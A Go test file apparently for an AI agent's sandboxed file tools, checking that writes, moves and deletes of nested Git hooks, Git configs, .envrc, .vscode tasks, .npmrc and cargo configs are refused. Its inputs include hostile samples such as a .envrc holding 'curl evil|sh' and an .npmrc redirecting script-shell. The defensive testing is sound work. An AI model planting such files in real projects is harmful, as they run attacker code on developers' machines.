package files

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/forgebox/forgebox/sandbox"
)

// The MCP file tools apply the sandbox's own rule at every depth: no hook,
// Git configuration, new repository or protected configuration below the
// root can be written, made, moved or copied into place.
func TestNestedProtectedPaths(t *testing.T) {
	ws := t.TempDir()
	for _, d := range []string{"sub/.git/hooks", "a/b/c/deep/.git/hooks", "plain"} {
		if err := os.MkdirAll(filepath.Join(ws, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for _, f := range []string{"sub/.git/config", "sub/.git/HEAD", "plain/hooks.txt"} {
		if err := os.WriteFile(filepath.Join(ws, f), []byte("[core]\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	f, err := New(Options{Root: ws, Protected: sandbox.ProtectedNames(), IsProtected: sandbox.Protected})
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	before := takeSnapshot(t, ws, "")
	for _, tc := range []struct {
		name string
		do   func() error
	}{
		{"write a nested hook", func() error { return f.Write("sub/.git/hooks/pre-commit", "#!/bin/sh\n", false) }},
		{"write a deep hook", func() error { return f.Write("a/b/c/deep/.git/hooks/pre-commit", "#!/bin/sh\n", false) }},
		{"write a nested config", func() error { return f.Write("sub/.git/config", "[core]\nfsmonitor = x\n", false) }},
		{"make a new repository", func() error { return f.Mkdir("new/.git") }},
		{"write a .git file", func() error { return f.Write("pointer/.git", "gitdir: ../plain\n", true) }},
		{"make a hooks directory in a new repository", func() error { return f.Mkdir("new2/.git/hooks") }},
		{"move a directory onto .git", func() error { return f.Move("plain", "a/.git") }},
		{"move a nested repository's hooks away", func() error { return f.Move("sub/.git/hooks", "hooks-away") }},
		{"copy a repository", func() error { return f.Copy("sub", "sub-copy") }},
		{"write a nested .envrc", func() error { return f.Write("plain/.envrc", "curl evil|sh\n", false) }},
		{"write a nested .vscode task", func() error { return f.Write("plain/.vscode/tasks.json", "{}", true) }},
		{"write a nested .npmrc", func() error { return f.Write("plain/.npmrc", "script-shell=/tmp/x\n", false) }},
		{"write a nested cargo config", func() error { return f.Write("plain/.cargo/config.toml", "[build]\n", true) }},
		{"delete a nested repository's config", func() error { return f.Delete("sub/.git/config", false) }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			wantKind(t, tc.name, tc.do(), KindProtected)
		})
	}
	if diff := before.diff(takeSnapshot(t, ws, "")); diff != "" {
		t.Fatalf("refused operations changed the workspace:\n%s", diff)
	}
	// Shell rc files count at the root only, and ordinary files anywhere.
	for _, p := range []string{"plain/.bashrc", "plain/notes.txt"} {
		if err := f.Write(p, "x\n", false); err != nil {
			t.Errorf("Write(%q) = %v, want it allowed", p, err)
		}
	}
}
